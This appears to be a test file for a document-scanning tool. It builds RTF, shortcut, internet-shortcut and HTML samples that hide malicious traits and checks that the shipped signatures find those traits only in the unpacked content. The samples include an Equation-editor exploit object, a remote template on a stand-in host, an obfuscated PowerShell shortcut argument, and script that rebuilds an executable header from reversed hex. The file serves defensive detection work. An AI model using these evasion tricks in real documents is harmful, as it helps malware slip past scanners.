// What hides from patterns in the bytes of a document is found in the texts taken out of it: the
// shipped signatures over what the unpackers yield.
import { beforeAll, expect, test } from "bun:test";
import { fileType } from "../../src/scan/file-type.ts";
import { unpackerFor } from "../../src/unpack/registry.ts";
import { budgetOf, drain } from "../harness/extracts.ts";
import { shellLink } from "../unpack/script/build-link.ts";
import { embedded, linked, packaged } from "../unpack/script/build-rtf.ts";
import { loadShipped, type Shipped } from "./shipped.ts";

let shipped: Shipped;

beforeAll(async () => {
  shipped = await loadShipped();
}, 120_000);

/** Names of what is found in the object's own bytes, and in what is taken out of it. */
function findings(bytes: Buffer): { own: readonly string[]; inside: readonly string[] } {
  const container = fileType(bytes);
  const unpack = unpackerFor(container);
  const extracts = unpack === undefined ? [] : drain(unpack(bytes, budgetOf())).extracts;
  const own = shipped.scan({ bytes, name: "a", container: "mail" }).names;
  const inside = extracts.flatMap((one) => shipped.scan({ ...one, container }).names);
  return { own, inside };
}

// Blanks within every byte of hex, so that no pattern of digits matches.
const spread = (bytes: Buffer) => bytes.toString("hex").replace(/./g, "$& ");
const rtf = (words: string, object: Buffer) =>
  Buffer.from(`{\\rtf1{\\object${words}{\\*\\objdata ${spread(object)}}}}`);

const program = Buffer.alloc(2048);
program.write("MZ");
program.writeUInt32LE(0x80, 0x3c);
program.write("PE\0\0", 0x80);

test.each<[string, Buffer]>([
  ["Gw.Rtf.EquationExploit", rtf("\\objupdate", embedded({ className: "Equation.3", data: "x" }))],
  [
    "Gw.Rtf.PackagedProgram",
    rtf("", embedded({ className: "Package", data: packaged("a.hta", "x") })),
  ],
  ["Gw.Rtf.RemoteLink", rtf("\\objautlink", linked("Word.Document.8", "https://x.example/a.doc"))],
  [
    "Gw.Rtf.RemoteTemplate",
    Buffer.from("{\\rtf1{\\*\\template \\'68\\'74tps://x.example/a.dotm}}"),
  ],
  ["Gw.Shortcut.PowerShell", shellLink({ args: '/c p^ow"er"sh^ell -c x' })],
  ["Gw.Shortcut.UrlToProgram", Buffer.from("[InternetShortcut]\nURL=http://x.example/a.%65xe\n")],
  [
    "Gw.Html.BuiltProgram",
    Buffer.from(
      `<html><script>s="${[...program.toString("hex")].reverse().join("")}".split("").reverse();unescape(s)</script>`,
    ),
  ],
])("%s finds what its document hides", (name, bytes) => {
  const { own, inside } = findings(bytes);
  expect(own).not.toContain(name);
  expect(inside).toContain(name);
});

test("ordinary documents of these kinds have nothing found in them", () => {
  const documents = [
    Buffer.from("{\\rtf1{\\*\\template C:\\\\a.dotm}{\\object{\\*\\objclass Excel.Sheet.8}}}"),
    shellLink({ args: "/open document.docx", workingDirectory: "C:\\Work" }),
    Buffer.from("[InternetShortcut]\r\nURL=https://www.example.org/\r\n"),
    Buffer.from('<html><script>var a=atob("aGVsbG8gd29ybGQsIGhlbGxv")</script></html>'),
  ];
  expect(documents.flatMap((bytes) => findings(bytes).inside)).toEqual([]);
});
